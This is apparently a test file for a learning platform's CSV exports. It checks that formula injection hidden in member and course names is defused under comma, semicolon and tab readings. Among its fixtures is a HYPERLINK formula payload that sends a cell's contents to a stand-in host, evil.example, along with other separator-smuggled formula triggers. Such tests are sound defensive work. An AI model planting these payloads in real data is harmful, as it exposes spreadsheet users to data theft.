import { certificates, credits, enrollments } from '@lms/db';
import t from 'tap';
import { csvCell, defuseFormulas } from '../../src/lib/csv.js';
import { buildTestApp } from '../helpers/app.js';
import { makeCourse } from '../helpers/catalog-fixtures.js';
import { makeInstitution, makeUser, sessionCookieFor } from '../helpers/fixtures.js';

// Formula injection through the other separator (issue 40, finding 4): a member or a course whose
// name holds a list separator then a formula must not become a formula in a spreadsheet that
// reads the file with the other separator (Indonesian Excel uses `;`), nor when a cell is split
// by Text to Columns. Every reading of both exports is checked: each separator, with and without
// honouring quotes, and no cell of any of them may start with a formula trigger.

const TRIGGER = /^[=+\-@\t\r\n\0]/;

/** The cells of a file as a spreadsheet reads it with `separator`; `quotes`: RFC 4180 quoting honoured (Excel), or not (a paste, Text to Columns). */
function readAs(body: string, separator: string, quotes: boolean): string[] {
  const text = body.replace(/^\uFEFF/, '');
  if (!quotes) return text.split(/\r\n|\n|\r/).flatMap((line) => line.split(separator));
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === separator || ch === '\n' || ch === '\r') {
      cells.push(cell);
      cell = '';
    } else cell += ch;
  }
  cells.push(cell);
  return cells;
}

/** The cells of every reading that a spreadsheet would run as a formula (leading spaces and quotes skipped, as Excel does). */
function formulaCells(body: string): string[] {
  const found: string[] = [];
  for (const separator of [',', ';', '\t']) {
    for (const quotes of [true, false]) {
      for (const cell of readAs(body, separator, quotes)) {
        if (TRIGGER.test(cell.replace(/^[ "]+/, ''))) found.push(`${JSON.stringify(separator)}${quotes ? '' : ' (no quotes)'}: ${cell}`);
      }
    }
  }
  return found;
}

const { app, db: testDb } = await buildTestApp(t);
const db = testDb.db;
const institutionId = await makeInstitution(db, 'Ikatan Profesi');
const teacher = await makeUser(db, { role: 'teacher', institutionId });
const course = await makeCourse(db, { teacherId: teacher.id, institutionId, name: 'Etika,=1+2,', nilaiKum: 2.5, creditScheme: 'SKP' });
const hostileNames = [
  'Budi;=HYPERLINK("http://evil.example/?"&A1;"klik");',
  'Sari,=1+2,',
  'Tono; -2+3',
  'Ani\t@SUM(A1)',
  'Dewi\r\n=1+1',
  'Eko;"=1+1"',
];
const members: Awaited<ReturnType<typeof makeUser>>[] = [];
for (const name of hostileNames) {
  const m = await makeUser(db, { role: 'student', name });
  await db.insert(enrollments).values({ userId: m.id, courseId: course.id });
  members.push(m);
}
// A certificate and its credit for the first member, so credits.csv names the course.
const [k] = await db
  .insert(certificates)
  .values({ userId: members[0]!.id, courseId: course.id, kum: 2.5, issuedAt: new Date('2026-02-01T03:00:00Z') })
  .returning();
await db
  .insert(credits)
  .values({ userId: members[0]!.id, courseId: course.id, certificateId: k!.id, scheme: 'SKP', amount: 2.5, earnedAt: k!.issuedAt });
const teacherCookie = await sessionCookieFor(app, teacher.id);
const memberCookie = await sessionCookieFor(app, members[0]!.id);

t.test('learners.csv: no reading of it holds a formula', async (t) => {
  const res = await app.inject({ url: `/dashboard/courses/${course.id}/learners.csv`, headers: { cookie: teacherCookie } });
  t.equal(res.statusCode, 200);
  t.same(formulaCells(res.body), [], 'no cell of any reading starts a formula');
  // Read as written (comma, quotes honoured), every name is one cell and says what it said, defused.
  const cells = readAs(res.body, ',', true);
  t.ok(cells.includes(`Budi;'=HYPERLINK("http://evil.example/?"&A1;"klik");`), 'the name is one cell, its formula defused');
  t.ok(cells.includes("Sari,'=1+2,"), 'a comma inside the name stays inside the cell');
  t.ok(cells.includes(members[1]!.email), 'an e-mail is written as it is');
});

t.test('credits.csv, in both dialects: no reading of it holds a formula', async (t) => {
  for (const lang of ['id', 'en']) {
    const res = await app.inject({ url: '/learn/credits.csv', headers: { cookie: `${memberCookie}; lms_lang=${lang}` } });
    t.equal(res.statusCode, 200, lang);
    t.same(formulaCells(res.body), [], `${lang}: no cell of any reading starts a formula`);
    const separator = lang === 'id' ? ';' : ',';
    const cells = readAs(res.body, separator, true);
    t.ok(cells.includes("Etika,'=1+2,"), `${lang}: the course name is one cell, defused`);
    t.ok(cells.includes(lang === 'id' ? '2,5' : '2.5'), `${lang}: the amount is a number in the dialect`);
  }
});

t.test('the writer: text quoted and defused, numbers bare', async (t) => {
  const comma = { separator: ',', decimal: '.' } as const;
  const semicolon = { separator: ';', decimal: ',' } as const;
  t.equal(csvCell('Budi', comma), '"Budi"', 'every text cell is quoted');
  t.equal(csvCell('', comma), '""');
  t.equal(csvCell(null, comma), '');
  t.equal(csvCell(-2.5, semicolon), '-2,5', 'a number is not text: bare, with the decimal comma');
  t.equal(csvCell('-2.5', comma), `"'-2.5"`, 'text that looks like a number is still text');
  t.equal(csvCell('a "b"', comma), '"a ""b"""');
  t.equal(defuseFormulas('=1'), "'=1");
  t.equal(defuseFormulas('a; =1'), "a; '=1", 'spaces after the separator do not help');
  t.equal(defuseFormulas('a,"@x'), `a,"'@x`, 'nor a quote');
  t.equal(defuseFormulas('a,\n=1'), "a,'\n'=1", 'a line break is a trigger, and starts a cell');
  t.equal(defuseFormulas('Jl. Merdeka-5, Bandung'), 'Jl. Merdeka-5, Bandung', 'a trigger inside a cell stays as it is');
  t.equal(defuseFormulas("'=1"), "'=1", 'an apostrophe already makes it text');
});

t.test('the learner of another course sees nothing of these files', async (t) => {
  const stranger = await makeUser(db, { role: 'student', name: 'Orang Lain' });
  const cookie = await sessionCookieFor(app, stranger.id);
  t.equal((await app.inject({ url: `/dashboard/courses/${course.id}/learners.csv`, headers: { cookie } })).statusCode, 403);
  const own = await app.inject({ url: '/learn/credits.csv', headers: { cookie } });
  t.equal(own.statusCode, 200);
  t.notMatch(own.body, 'Etika', "a member's credits.csv holds only their own records");
});
